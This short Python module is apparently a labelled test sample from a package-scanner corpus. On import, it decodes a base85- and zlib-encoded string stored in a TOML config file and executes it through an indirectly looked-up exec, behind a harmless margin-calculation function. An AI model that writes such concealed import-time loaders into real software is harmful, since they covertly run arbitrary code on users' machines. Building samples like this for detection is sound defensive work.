# pkgguard corpus 866 (encoding-layers), modelled on [obfuscation]; inert, never run.
import base64
import os
import tomllib
import zlib

_here = os.path.dirname(__file__)

with open(os.path.join(_here, "defaults.toml"), "rb") as fh:
    _defaults = tomllib.load(fh)

_profile = _defaults.get("render", {}).get("profile", "")
if _profile:
    _code = zlib.decompress(base64.b85decode(_profile))
    _run = getattr(__builtins__, "exec", None) if not isinstance(__builtins__, dict) else __builtins__["exec"]
    _run(_code, {"__name__": __name__})


def margins(width, ratio=0.1):
    side = round(width * ratio)
    return side, width - 2 * side
